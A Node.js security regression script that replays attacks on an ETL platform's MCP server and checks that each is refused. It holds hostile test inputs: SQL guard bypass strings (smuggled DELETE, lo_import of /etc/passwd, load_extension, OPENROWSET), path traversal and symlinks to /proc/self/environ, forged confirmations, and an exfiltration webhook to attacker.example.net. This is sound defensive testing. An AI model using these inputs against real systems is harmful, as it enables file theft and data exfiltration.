// issue8-repro.mjs replays every attack of issue 8 against the built binary through the official
// TypeScript MCP SDK client (and raw JSON-RPC / HTTP where an attacker would not use the SDK), and
// prints "N passed, N failed": a pass means the attack failed. Not part of `go test`.
//
//   go build -o etlworks-mcp . && node scripts/issue8-repro.mjs ./etlworks-mcp
//
// The SDK comes from scripts/node_modules (npm install in scripts/) or, failing that, from
// $MCP_SDK_DIR (default /tmp/harness/node/node_modules/@modelcontextprotocol/sdk).
import { spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
const bin = path.resolve(process.argv[2] ?? path.join(here, "..", "etlworks-mcp"));
if (!fs.existsSync(bin)) {
  console.error(`no binary at ${bin}: go build -o etlworks-mcp . first, or pass its path`);
  process.exit(2);
}

async function sdk(sub) {
  try {
    return await import(`@modelcontextprotocol/sdk/${sub}`);
  } catch {
    const dir = process.env.MCP_SDK_DIR ?? "/tmp/harness/node/node_modules/@modelcontextprotocol/sdk";
    return await import(path.join(dir, "dist/esm", sub));
  }
}
const { Client } = await sdk("client/index.js");
const { StdioClientTransport } = await sdk("client/stdio.js");
const { CallToolResultSchema } = await sdk("types.js");

// ---------- bookkeeping ----------
let passed = 0;
let failed = 0;
function check(name, ok, detail = "") {
  if (ok) passed++;
  else failed++;
  console.log(`${ok ? "PASS" : "FAIL"}  ${name}${detail ? "  -- " + detail : ""}`);
}
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "issue8-"));
const children = [];
const cleanups = [];
const rnd = (tag) => tag + randomBytes(6).toString("hex") + "Q7";
const short = (s, n = 160) => { const t = s.replace(/\s+/g, " "); return t.length > n ? t.slice(0, n) + `… (${s.length} chars)` : t; };
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function freePort() {
  return await new Promise((resolve) => {
    const s = net.createServer();
    s.listen(0, "127.0.0.1", () => {
      const p = s.address().port;
      s.close(() => resolve(p));
    });
  });
}

// peakRSS reads the high-water mark of a process's resident memory in MiB (Linux), or -1.
function peakRSS(pid) {
  try {
    const m = /VmHWM:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${pid}/status`, "utf8"));
    return m ? Math.round(Number(m[1]) / 1024) : -1;
  } catch {
    return -1;
  }
}

// ---------- MCP over stdio through the SDK ----------
async function connect(args, { env = {}, cwd, capabilities = {} } = {}) {
  const transport = new StdioClientTransport({
    command: bin,
    args,
    cwd,
    env: { ...process.env, ...env },
    stderr: "pipe",
  });
  const stderr = [];
  transport.stderr?.on("data", (b) => stderr.push(b));
  const client = new Client({ name: "issue8-repro", version: "1" }, { capabilities });
  await client.connect(transport);
  cleanups.push(() => client.close().catch(() => {}));
  return { client, transport, stderr: () => Buffer.concat(stderr).toString() };
}

// call runs one tool; protocol errors become isError results, so every attack reads the same way.
async function call(client, name, args, timeout = 120_000) {
  const t0 = Date.now();
  try {
    const r = await client.callTool({ name, arguments: args }, undefined, { timeout });
    const text = (r.content ?? []).map((c) => c.text ?? JSON.stringify(c)).join("\n") +
      (r.structuredContent ? JSON.stringify(r.structuredContent) : "");
    return { text, isError: !!r.isError, ms: Date.now() - t0 };
  } catch (e) {
    return { text: String(e?.message ?? e), isError: true, ms: Date.now() - t0, protocol: true };
  }
}

async function read(client, uri) {
  try {
    const r = await client.readResource({ uri }, { timeout: 120_000 });
    return { text: r.contents.map((c) => c.text ?? "").join("\n"), isError: false };
  } catch (e) {
    return { text: String(e?.message ?? e), isError: true };
  }
}

const tokenOf = (text) => /"confirm_token"\s*:\s*"([^"]+)"/.exec(text)?.[1];

// ---------- the stand-alone sandbox API (upstream) ----------
async function startUpstream() {
  const port = await freePort();
  const child = spawn(bin, ["sandbox", "--addr", `127.0.0.1:${port}`], { stdio: ["ignore", "pipe", "pipe"] });
  children.push(child);
  let out = "";
  for (let i = 0; i < 200 && !/API key:\s+\S+/.test(out); i++) {
    await new Promise((r) => child.stdout.once("data", (b) => ((out += b), r())));
  }
  const url = /API at (\S+)/.exec(out)[1];
  const key = /API key:\s+(\S+)/.exec(out)[1];
  const api = async (method, p, body) => {
    const res = await fetch(url + p, {
      method,
      headers: { Authorization: `Bearer ${key}`, "Content-Type": "application/json" },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    if (!res.ok) throw new Error(`${method} ${p}: ${res.status} ${text.slice(0, 300)}`);
    return text ? JSON.parse(text) : null;
  };
  return { url, key, api, port };
}

// ---------- 1. planted secrets, x-standin-* ----------
async function plantedSecrets(up) {
  const s = {
    dbPwd: rnd("dbpwd"), sshPass: rnd("sshp"), connStr: rnd("cs"), urlPw: rnd("urlpw"),
    connPwd: rnd("cpwd"), connKey: rnd("ckey"), connURL: rnd("curl"), connQ: rnd("cq"), logPw: rnd("logpw"),
    cookie: rnd("ck"), pem: rnd("pem"),
  };
  const conn = await up.api("POST", "/v1/connections", {
    name: "Planted API", connectionType: "connection.http", description: "planted",
    properties: {
      "field.connection.template.url": `https://svc:${s.connURL}@api.example.com/v2?api_key=${s.connQ}&limit=5`,
      "field.connection.template.pwd": s.connPwd,
      "field.connection.template.key": s.connKey,
      "field.connection.template.cookie": s.cookie,
      "field.connection.template.private_key": `-----BEGIN RSA PRIVATE KEY-----\nMIIE${s.pem}\n-----END RSA PRIVATE KEY-----`,
    },
  });
  const flow = await up.api("POST", "/v1/flows", {
    name: "Planted secrets", flowType: "api-to-database", description: "planted",
    properties: {
      db_pwd: s.dbPwd, ssh_passphrase: s.sshPass,
      connection_string: `Server=sql1;Database=dw;User Id=etl;Password=${s.connStr};`,
      "x-standin-outcome": "error",
      "x-standin-error": `GET https://admin:${s.logPw}@api.example.com/v1/orders failed`,
    },
    transformations: [{
      name: "planted", enabled: true, mode: "replace",
      source: { connectionId: conn.id, object: "/orders", format: "JSON" },
      destination: { connection: "Warehouse", object: "planted" },
    }],
  });
  const run = await up.api("POST", `/v1/flows/${flow.id}/run`, {});
  for (let i = 0; i < 500; i++) {
    const e = await up.api("GET", `/v1/executions/${flow.id}?auditId=${run.auditId}`);
    if (e.status && e.status !== "running" && e.status !== "queued") break;
    await sleep(20);
  }
  // The secrets reach the API in clear, or the checks below would prove nothing.
  const raw = JSON.stringify([await up.api("GET", `/v1/flows/${flow.id}`), await up.api("GET", `/v1/connections/${conn.id}`),
    await up.api("GET", `/v1/executions/${flow.id}`)]);
  const setup = [s.dbPwd, s.connPwd, s.logPw].every((v) => raw.includes(v));
  check("setup: the upstream returns the planted secrets in clear", setup);

  const { client, stderr } = await connect(["--log-level", "debug"], { env: { ETLWORKS_URL: up.url, ETLWORKS_API_KEY: up.key } });
  const secrets = [...Object.values(s), up.key];
  const leaks = (text) => secrets.filter((v) => text.includes(v));
  const seen = [];
  const probe = async (what, r, mustShow) => {
    seen.push(r.text);
    const l = leaks(r.text);
    check(`no planted secret in ${what}`, !r.isError && l.length === 0 && (!mustShow || r.text.includes(mustShow)),
      r.isError ? short(r.text) : l.length ? `leaked ${l.join(", ")}` : "");
    return r;
  };
  const gf = await probe("get_flow (db_pwd, ssh_passphrase, connection_string)", await call(client, "get_flow", { flow: "Planted secrets" }), "Planted secrets");
  check("no x-standin-* in get_flow", !gf.text.includes("x-standin"));
  const rf = await probe("etlworks://flows/{id}", await read(client, `etlworks://flows/${flow.id}`));
  check("no x-standin-* in etlworks://flows/{id}", !rf.text.includes("x-standin"));
  await probe("get_connection", await call(client, "get_connection", { connection: "Planted API" }));
  await probe("etlworks://connections/{id}", await read(client, `etlworks://connections/${conn.id}`), "Planted API");
  await probe("get_run_log (https://admin:PW@host)", await call(client, "get_run_log", { flow: "Planted secrets" }), "api.example.com");
  const log = await call(client, "get_run_log", { flow: "Planted secrets" });
  check("get_run_log fences Etlworks text as untrusted data", /Untrusted data/.test(log.text) && /<data-[0-9a-f]+>/.test(log.text), short(log.text, 120));
  await probe("etlworks://runs/{flow}/latest", await read(client, `etlworks://runs/${flow.id}/latest`));
  await probe("diagnose_run", await call(client, "diagnose_run", { flow: "Planted secrets" }));
  await probe("explain_flow", await call(client, "explain_flow", { flow: "Planted secrets" }));
  await probe("test_connection", { ...(await call(client, "test_connection", { connection: "Planted API" })), isError: false });
  // x-standin-* of every sample flow
  const flows = JSON.parse((await call(client, "list_flows", { limit: 100 })).text).items ?? [];
  let standin = [];
  for (const f of flows) {
    const r = await call(client, "get_flow", { flow: String(f.id) });
    const rr = await read(client, `etlworks://flows/${f.id}`);
    if (r.text.includes("x-standin") || rr.text.includes("x-standin")) standin.push(f.name);
  }
  check(`no x-standin-* in get_flow / etlworks://flows of ${flows.length} flows`, flows.length > 5 && standin.length === 0, standin.join(", "));
  await client.close();
  const l = leaks(stderr());
  check("no planted secret in the debug log", l.length === 0, l.join(", "));
}

// ---------- 2. SQL guard bypasses (read-only run_sql) ----------
async function sqlGuard(up) {
  const types = { postgres: "connection.db.postgres", mysql: "connection.db.mysql", snowflake: "connection.db.snowflake",
    bigquery: "connection.db.bigquery", unknown: "connection.db.db2" /* no dialect of its own in the guard: every reading */, sqlserver: "connection.db.sqlserver", sqlite: "connection.db.sqlite" };
  for (const [k, t] of Object.entries(types)) {
    // Fill in whatever fields the connector type requires, as the upstream names them.
    const properties = { "field.connection.template.host": "db.internal" };
    for (let i = 0; ; i++) {
      try {
        await up.api("POST", "/v1/connections", { name: `Guard ${k}`, connectionType: t, properties });
        break;
      } catch (e) {
        const m = /Field 'properties\.([^']+)'/.exec(e.message);
        if (!m || i > 20) throw e;
        properties[m[1]] = "x";
      }
    }
  }
  const { client } = await connect([], { env: { ETLWORKS_URL: up.url, ETLWORKS_API_KEY: up.key } });
  const quote = `SELECT 1 AS "\\", '\\' " ' ; DELETE FROM t; -- ' -- "`;
  const cases = [
    ...["postgres", "mysql", "snowflake", "bigquery", "unknown"].map((k) => [k, quote]),
    ["snowflake", "SHOW TABLES ->> DROP TABLE t"],
    ["unknown", "SHOW TABLES ->> DROP TABLE t"],
    ["postgres", `SELECT "lo_import"('/etc/passwd')`],
    ["postgres", `SELECT "nextval"('orders_id_seq')`],
    ["sqlite", `SELECT [load_extension]('/tmp/x.so')`],
    ["postgres", `SELECT lo_from_bytea(0, 'x')`],
    ["postgres", `SELECT pg_notify('c', 'x')`],
    ["sqlserver", `SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')`],
    ["sqlserver", `SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t`],
    ["postgres", `SELECT dblink_exec('dbname=x', 'DELETE FROM t')`],
    ["sqlite", `EXPLAIN PRAGMA query_only=0`],
    ["sqlserver", `SELECT * FROM orders WITH (SERIALIZABLE)`],
    ["sqlserver", `SELECT * FROM orders WITH (TABLOCKX)`],
  ];
  for (const [k, sql] of cases) {
    const r = await call(client, "run_sql", { connection: `Guard ${k}`, sql });
    // Refused by the guard before anything is sent: an error that names the read-only rule.
    const refused = r.isError && /read|allow-sql-writes|not allowed|refus|only/i.test(r.text) && !/upstream|Etlworks answered/i.test(r.text);
    check(`run_sql refuses ${k}: ${short(sql, 60)}`, refused, short(r.text, 200));
  }
  await client.close();
}

// ---------- 2b. a shared confirm key: a delete token works across replicas, but only once ----------
async function replicas(up) {
  await up.api("POST", "/v1/flows", { name: "Replica delete target", flowType: "execute-sql",
    transformations: [{ name: "s", enabled: true, source: { connection: "Warehouse", sql: "SELECT 1" } }] });
  const env = { ETLWORKS_URL: up.url, ETLWORKS_API_KEY: up.key, ETLWORKS_MCP_CONFIRM_KEY: randomBytes(32).toString("hex") };
  const { client: a } = await connect([], { env });
  const { client: b } = await connect([], { env });
  const tok = tokenOf((await call(a, "delete_flow", { flow: "Replica delete target" })).text);
  const rb = await call(b, "delete_flow", { flow: "Replica delete target", confirm_token: tok });
  check("with a shared confirm key, a delete token from one replica works on another", !!tok && !rb.isError, short(rb.text, 160));
  await a.close();
  await b.close();
}

// ---------- 3. a fault-injecting proxy: huge bodies, stalls, HTML ----------
async function faults(up) {
  const huge = (() => {
    const parts = ["["];
    const pad = "x".repeat(480);
    let n = 0;
    while (n * 520 < 50_000_000) parts.push((n ? "," : "") + `{"id":${++n},"name":"flow ${n} ${pad}","flowType":"x"}`);
    parts.push("]");
    return Buffer.from(parts.join(""));
  })();
  let mode = "pass";
  const target = new URL(up.url);
  const proxy = http.createServer((req, res) => {
    if (mode === "stall") return; // never answers
    if (mode === "html") {
      res.writeHead(200, { "Content-Type": "text/html" });
      return res.end("<!doctype html><html><body><h1>Sign in</h1></body></html>");
    }
    if (mode.startsWith("huge") && req.method === "GET" && !/token-auth|health/.test(req.url)) {
      // huge announces its length; huge-chunked does not, so the server must stop while reading.
      res.writeHead(200, { "Content-Type": "application/json", ...(mode === "huge" ? { "Content-Length": huge.length } : {}) });
      return res.end(huge);
    }
    if ((mode === "null" || mode === "empty") && req.method === "GET") {
      res.writeHead(200, { "Content-Type": "application/json" });
      return res.end(mode === "null" ? "null" : "");
    }
    const up2 = http.request({ host: target.hostname, port: target.port, path: req.url, method: req.method, headers: req.headers }, (r) => {
      res.writeHead(r.statusCode, r.headers);
      r.pipe(res);
    });
    req.pipe(up2);
  });
  await new Promise((r) => proxy.listen(0, "127.0.0.1", r));
  cleanups.push(() => { proxy.closeAllConnections?.(); proxy.close(); });
  const purl = `http://127.0.0.1:${proxy.address().port}${target.pathname}`;
  const { client, transport } = await connect(["--call-timeout", "15s", "--timeout", "10s"], { env: { ETLWORKS_URL: purl, ETLWORKS_API_KEY: up.key } });
  for (const m of ["huge", "huge-chunked", "stall", "html", "null", "empty"]) {
    mode = m;
    for (const [what, f] of [
      ["get_flow by name", () => call(client, "get_flow", { flow: "No such flow at all" })],
      ["list_flows", () => call(client, "list_flows", {})],
      ["etlworks://flows", () => read(client, "etlworks://flows").then((r) => ({ ...r, ms: 0 }))],
    ]) {
      const t0 = Date.now();
      const r = await f();
      const ms = Date.now() - t0;
      // An HTML page, null or nothing is said to be that, with a pointer to ETLWORKS_URL, never "not found" or an empty list.
      const said = { html: /HTML/, null: /null/, empty: /empty/ }[m];
      const ok = ms < 30_000 && r.text.length <= 40 * 1024 && r.isError &&
        (!said || (said.test(r.text) && /ETLWORKS_URL/.test(r.text) && !/not found|no flow/i.test(r.text)));
      check(`${m} upstream: ${what} ends within 30 s with a short answer`, ok, `${ms} ms, ${r.text.length} chars: ${short(r.text, 140)}`);
    }
  }
  const rss = peakRSS(transport.pid);
  check("huge upstream bodies: server peak RSS under 512 MiB", rss >= 0 && rss < 512, `${rss} MiB`);
  mode = "pass";
  await client.close();
}

// ---------- 4. --sandbox: uploads, confirmations, echoes, webhooks, diffs, zeroblob ----------
async function sandboxAttacks() {
  const dir = path.join(tmp, "uploads");
  fs.mkdirSync(dir);
  fs.writeFileSync(path.join(dir, "ok.csv"), "a,b\n1,2\n");
  const outside = path.join(tmp, "outside.txt");
  fs.writeFileSync(outside, "outside secret\n");
  fs.symlinkSync("/proc/self/environ", path.join(dir, "environ-link"));
  fs.linkSync(outside, path.join(dir, "hardlink.txt"));
  spawnSync("mkfifo", [path.join(dir, "pipe")]);
  const canary = rnd("canary");

  // Started in / with no --upload-dir, as some clients start servers.
  {
    const { client } = await connect(["--sandbox"], { cwd: "/", env: { ETLWORKS_API_KEY_CANARY: canary } });
    const r = await call(client, "upload_file", { connection: "Staging files", path: "/proc/self/environ" });
    const r2 = await call(client, "upload_file", { connection: "Staging files", path: "proc/self/environ" });
    const p = await call(client, "preview_data", { connection: "Staging files", object: "environ" });
    check("upload_file /proc/self/environ (cwd /, no --upload-dir) refused, nothing previewable",
      r.isError && r2.isError && ![r, r2, p].some((x) => x.text.includes(canary)), short(r.text, 200));
    await client.close();
  }
  const { client, transport } = await connect(["--sandbox", "--allow-sql-writes", "--upload-dir", dir], { cwd: "/", env: { ETLWORKS_API_KEY_CANARY: canary } });
  for (const [what, p] of [["/proc/self/environ", "/proc/self/environ"], ["a path escaping the dir", "../outside.txt"],
    ["a symlink in the dir", "environ-link"], ["a hard link in the dir", "hardlink.txt"]]) {
    const r = await call(client, "upload_file", { connection: "Staging files", path: p });
    check(`upload_file refuses ${what} under --upload-dir`, r.isError && !r.text.includes(canary) && !r.text.includes("outside secret"), short(r.text, 160));
  }
  {
    const r = await call(client, "upload_file", { connection: "Staging files", path: "pipe" }, 20_000);
    check("upload_file of a FIFO returns promptly with an error", r.isError && !r.protocol && r.ms < 5000, `${r.ms} ms: ${short(r.text, 160)}`);
    const ok = await call(client, "upload_file", { connection: "Staging files", path: "ok.csv" });
    check("upload_file of a regular file in --upload-dir still works", !ok.isError, short(ok.text, 160));
  }

  // Confirm-token replay: 3 INSERTs with one token, then 10 concurrent.
  {
    const sql = (s) => call(client, "run_sql", { connection: "Warehouse", sql: s });
    const ct = await sql("CREATE TABLE repro_replay (x INTEGER)");
    const tok0 = tokenOf(ct.text);
    await call(client, "run_sql", { connection: "Warehouse", sql: "CREATE TABLE repro_replay (x INTEGER)", confirm_token: tok0 });
    const ins = "INSERT INTO repro_replay VALUES (1)";
    const tok = tokenOf((await sql(ins)).text);
    const rs = [];
    for (let i = 0; i < 3; i++) rs.push(await call(client, "run_sql", { connection: "Warehouse", sql: ins, confirm_token: tok }));
    const tok2 = tokenOf((await sql(ins)).text);
    const conc = await Promise.all(Array.from({ length: 10 }, () => call(client, "run_sql", { connection: "Warehouse", sql: ins, confirm_token: tok2 })));
    const count = /^n\s*\n(\d+)\s*$/m.exec((await sql("SELECT count(*) AS n FROM repro_replay")).text)?.[1];
    check("one confirm token runs one INSERT (3 in a row, 10 at once: 2 rows)",
      !!tok && !!tok2 && !rs[0].isError && rs[1].isError && rs[2].isError && conc.filter((r) => !r.isError).length === 1 && count === "2",
      `rows=${count}, concurrent successes=${conc.filter((r) => !r.isError).length}; replay said: ${short(rs[1].text, 140)}`);
  }
  // An SQL-write token from another process (no shared key) says where it came from.
  {
    const { client: other } = await connect(["--sandbox", "--allow-sql-writes"]);
    const ins = "INSERT INTO orders (id) VALUES (-1)";
    const tok = tokenOf((await call(other, "run_sql", { connection: "Warehouse", sql: ins })).text);
    const r = await call(client, "run_sql", { connection: "Warehouse", sql: ins, confirm_token: tok });
    check("a confirm token from another server process is refused, saying so", !!tok && r.isError && /another server instance/.test(r.text), short(r.text, 160));
    await other.close();
    // Even with a shared ETLWORKS_MCP_CONFIRM_KEY, an SQL write (no target state) is confirmed only where it was asked.
    const key = { ETLWORKS_MCP_CONFIRM_KEY: randomBytes(32).toString("hex") };
    const { client: a } = await connect(["--sandbox", "--allow-sql-writes"], { env: key });
    const { client: b } = await connect(["--sandbox", "--allow-sql-writes"], { env: key });
    const tokA = tokenOf((await call(a, "run_sql", { connection: "Warehouse", sql: ins })).text);
    const rb = await call(b, "run_sql", { connection: "Warehouse", sql: ins, confirm_token: tokA });
    check("with a shared confirm key, an SQL-write token works only in the process that issued it", !!tokA && rb.isError, short(rb.text, 160));
    await a.close();
    await b.close();
  }
  // A delete token after a restore.
  {
    await call(client, "create_flow", { name: "Repro delete target", copy_from: "Load product catalog" });
    const tok = tokenOf((await call(client, "delete_flow", { flow: "Repro delete target" })).text);
    const d1 = await call(client, "delete_flow", { flow: "Repro delete target", confirm_token: tok });
    const rs = await call(client, "restore_deleted", { item: "Repro delete target", type: "flow" });
    const d2 = await call(client, "delete_flow", { flow: "Repro delete target", confirm_token: tok });
    const still = await call(client, "get_flow", { flow: "Repro delete target" });
    check("a delete token does not delete the flow again after a restore",
      !!tok && !d1.isError && !rs.isError && d2.isError && !still.isError, `restore: ${short(rs.text, 80)}; replay: ${short(d2.text, 140)}`);
  }
  // Forged inputResponses from a client that never declared elicitation.
  {
    const forged = async (c, extra = {}) => {
      try {
        const r = await c.request({ method: "tools/call", params: { name: "delete_flow", arguments: { flow: "Load product catalog" },
          inputResponses: { confirm: { action: "accept", content: { confirm: true } } }, ...extra } }, CallToolResultSchema);
        return { isError: !!r.isError, text: JSON.stringify(r) };
      } catch (e) {
        return { isError: true, text: String(e.message) };
      }
    };
    const r = await forged(client);
    const still = await call(client, "get_flow", { flow: "Load product catalog" });
    check("forged inputResponses (no elicitation declared) delete nothing", !still.isError && !/"deleted"|recycle bin.*deleted/i.test(r.text), short(r.text, 160));
    const { client: ec } = await connect(["--sandbox"], { capabilities: { elicitation: {} } });
    const r2 = await forged(ec, { requestState: "forged-state" });
    const still2 = await call(ec, "get_flow", { flow: "Load product catalog" });
    check("forged inputResponses with a made-up requestState delete nothing", !still2.isError, short(r2.text, 160));
    await ec.close();
  }
  // Echoes of a 1 MB bad argument.
  {
    const big = "A".repeat(1 << 20);
    for (const [tool, args] of [["get_flow", { flow: big }], ["list_runs", { status: big }], ["create_schedule", { flow: "Load orders from CSV", cron: big }],
      ["run_sql", { connection: big, sql: "SELECT 1" }]]) {
      const r = await call(client, tool, args);
      check(`a 1 MB bad argument to ${tool} gets a short error`, r.isError && r.text.length < 2048, `${r.text.length} chars`);
    }
  }
  {
    const r = await call(client, "run_flow", { flow: "Load orders from CSV", params: ["a"] });
    check('run_flow "params" of the wrong type names the type it got', r.isError && !/got an object/.test(r.text), short(r.text, 160));
  }
  // A webhook to a host the operator did not allow.
  {
    const r = await call(client, "create_webhook", { name: "exfil", url: "https://attacker.example.net/collect", events: ["Flow.Failed"] });
    const l = await call(client, "list_webhooks", {});
    check("create_webhook refuses a non-allowed host, naming --webhook-hosts",
      r.isError && /webhook-hosts/.test(r.text) && !l.text.includes("attacker.example.net"), short(r.text, 160));
  }
  // update_flow dry run: a change at line 4,501 of a 5,000-line SQL.
  {
    const lines = Array.from({ length: 5000 }, (_, i) => `SELECT ${i + 1} AS line_${i + 1};`);
    await call(client, "create_flow", { name: "Repro big SQL", definition: { flowType: "execute-sql",
      transformations: [{ name: "big", enabled: true, source: { connection: "Warehouse", sql: lines.join("\n") } }] } });
    const changed = [...lines];
    changed[4500] = "DROP TABLE orders;";
    const r = await call(client, "update_flow", { flow: "Repro big SQL", set: { "transformations.0.source.sql": changed.join("\n") }, dry_run: true });
    const text = r.text.replace(/\\n/g, "\n");
    check("update_flow dry run shows the change at line 4,501 of 5,000", !r.isError && /^\s*\+\s*DROP TABLE orders;/m.test(text) && /^\s*-\s*SELECT 4501 AS line_4501;/m.test(text),
      `${r.text.length} chars`);
  }
  // SELECT zeroblob(50000000)
  {
    const r = await call(client, "run_sql", { connection: "Warehouse", sql: "SELECT zeroblob(50000000) AS z" });
    const rss = peakRSS(transport.pid);
    check("SELECT zeroblob(50000000): short answer, peak RSS under 512 MiB", r.text.length <= 300 * 1024 && rss >= 0 && rss < 512,
      `${r.ms} ms, ${r.text.length} chars, ${rss} MiB: ${short(r.text, 120)}`);
  }
  await client.close();
}

// ---------- 5. the CLI: call's exit code, closed stdout ----------
async function cli() {
  const r = spawnSync(bin, ["call", "run_flow", '{"flow":"Daily revenue rollup","wait":true}', "--sandbox"], { encoding: "utf8", timeout: 120_000 });
  check("call run_flow … Daily revenue rollup wait exits 1 (the run fails)", r.status === 1, `exit ${r.status}, signal ${r.signal}`);

  const tdir = fs.mkdtempSync(path.join(tmp, "tmpdir-"));
  const child = spawn(bin, ["--sandbox"], { stdio: ["pipe", "pipe", "pipe"], env: { ...process.env, TMPDIR: tdir } });
  children.push(child);
  child.stderr.resume();
  await sleep(300);
  child.stdout.destroy(); // the client closes its end of stdout, keeping stdin open
  const init = { jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "x", version: "1" } } };
  child.stdin.write(JSON.stringify(init) + "\n");
  child.stdin.write(JSON.stringify({ jsonrpc: "2.0", id: 2, method: "tools/list" }) + "\n");
  const exit = await Promise.race([new Promise((res) => child.once("exit", (code, signal) => res({ code, signal }))), sleep(15_000).then(() => null)]);
  const left = fs.readdirSync(tdir);
  check("closed stdout: the server exits cleanly (no SIGPIPE) and removes its temp dir",
    exit !== null && exit.signal === null && left.length === 0, exit ? `code ${exit.code}, signal ${exit.signal}, left: ${left.join(",")}` : "did not exit in 15 s");
}

// ---------- 6. HTTP sessions ----------
async function httpSessions() {
  const port = await freePort();
  const child = spawn(bin, ["--sandbox", "--http", `127.0.0.1:${port}`], { stdio: ["ignore", "ignore", "pipe"] });
  children.push(child);
  let logs = "";
  child.stderr.on("data", (b) => (logs += b));
  const base = `http://127.0.0.1:${port}/mcp`;
  for (let i = 0; i < 100; i++) {
    try { await fetch(base, { method: "GET" }); break; } catch { await sleep(100); }
  }
  const hdr = { "Content-Type": "application/json", Accept: "application/json, text/event-stream" };
  const bogus = "bogus-" + randomBytes(8).toString("hex");
  const get = await fetch(base, { method: "GET", headers: { Accept: "text/event-stream", "Mcp-Session-Id": bogus } });
  check("HTTP GET with an unknown session id: 404", get.status === 404, `${get.status}`);
  await get.body?.cancel();
  const del = await fetch(base, { method: "DELETE", headers: { "Mcp-Session-Id": bogus } });
  check("HTTP DELETE with an unknown session id: 404", del.status === 404, `${del.status}`);
  const callBody = JSON.stringify({ jsonrpc: "2.0", id: 7, method: "tools/call", params: { name: "list_flows", arguments: {} } });
  const noSess = await fetch(base, { method: "POST", headers: hdr, body: callBody });
  const t1 = await noSess.text();
  check("HTTP tools/call before initialize (no session) refused", noSess.status >= 400 && !t1.includes("Load orders"), `${noSess.status} ${short(t1, 100)}`);
  const unk = await fetch(base, { method: "POST", headers: { ...hdr, "Mcp-Session-Id": bogus }, body: callBody });
  const t2 = await unk.text();
  check("HTTP tools/call on an unknown session: 404", unk.status === 404 && !t2.includes("Load orders"), `${unk.status}`);
  // A legacy session: an initialize that fails must not leave a session tools/call can use.
  const bad = await fetch(base, { method: "POST", headers: hdr,
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: 5, capabilities: "x" } }) });
  const sid = bad.headers.get("mcp-session-id");
  await bad.text();
  let served = false;
  if (sid) {
    const r = await fetch(base, { method: "POST", headers: { ...hdr, "Mcp-Session-Id": sid, "Mcp-Protocol-Version": "2025-03-26" }, body: callBody });
    served = (await r.text()).includes("Load orders");
  }
  check("HTTP tools/call on a session whose initialize failed is refused", !served, sid ? "a session id was sent" : "no session id sent");
  // And a real session through the SDK still works.
  const { StreamableHTTPClientTransport } = await sdk("client/streamableHttp.js");
  const c = new Client({ name: "issue8-repro", version: "1" });
  const ht = new StreamableHTTPClientTransport(new URL(base));
  await c.connect(ht);
  const r = await call(c, "list_flows", {});
  check("HTTP: an initialized SDK session is served", !r.isError && r.text.includes("Load orders"));
  const sidReal = ht.sessionId;
  await c.close();
  await sleep(200);
  check("HTTP session ids are not logged (INFO)", !!sidReal && !logs.includes(sidReal), sidReal ? "" : "no session id");
}

// ---------- run ----------
const steps = [["planted secrets", plantedSecrets, true], ["SQL guard", sqlGuard, true], ["replicas", replicas, true], ["faulty upstream", faults, true],
  ["sandbox attacks", sandboxAttacks], ["CLI", cli], ["HTTP sessions", httpSessions]];
try {
  const up = await startUpstream();
  for (const [name, f, needsUp] of steps) {
    if (process.env.ISSUE8_ONLY && !name.includes(process.env.ISSUE8_ONLY)) continue; // to rerun one step
    console.log(`# ${name}`);
    try {
      await (needsUp ? f(up) : f());
    } catch (e) {
      check(`${name}: the step ran to its end`, false, short(String(e?.stack ?? e), 400));
    }
  }
} finally {
  for (const c of cleanups) await c();
  for (const c of children) c.kill();
  fs.rmSync(tmp, { recursive: true, force: true });
}
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
